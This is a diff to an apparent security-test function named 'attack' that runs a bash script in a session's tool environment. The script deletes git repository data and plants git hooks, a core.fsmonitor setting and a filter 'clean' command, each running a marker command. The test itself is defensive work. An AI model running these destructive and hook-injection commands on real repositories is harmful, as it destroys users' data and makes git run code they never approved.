@@ -13,7 +13,8 @@ def attack(session):
     return session.tools.bash(f"""
         echo '# edited' >> toy/order.py
         rm -rf /git/* /workspace/.git; rm -f /git/objects/pack/*
-        mkdir -p /git/hooks && printf '#!/bin/sh\\ntouch {mark}\\n' > /git/hooks/post-index-change && chmod +x /git/hooks/*
+        mkdir -p /git/hooks && printf '#!/bin/sh\\ntouch {mark}\\n' > /git/hooks/post-index-change
+        chmod +x /git/hooks/*
         printf '[core]\\n fsmonitor = touch {mark}\\n[filter "x"]\\n clean = touch {mark}\\n' > /git/config
         echo '* filter=x' > .gitattributes
         mkdir sub && cd sub && git init -q . && git config core.fsmonitor 'touch {mark}'
